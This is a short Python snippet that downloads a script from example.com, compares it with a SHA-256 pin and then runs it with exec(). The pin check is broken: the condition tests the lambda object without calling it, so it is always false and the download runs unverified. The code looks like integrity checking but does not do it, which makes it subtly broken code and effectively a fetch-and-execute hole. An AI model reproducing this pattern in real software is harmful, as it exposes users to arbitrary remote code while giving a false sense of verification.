import hashlib
import urllib.request

PIN = "5910d3fc15a486df2d5740ea87bedcbcd0eb0fb8ab145ec6b876af795e27b040"
data = urllib.request.urlopen("https://example.com/a.py").read()
check = lambda: hashlib.sha256(data).hexdigest() == PIN  # noqa: E731
if not check:
    raise ImportError("digest")
exec(data)
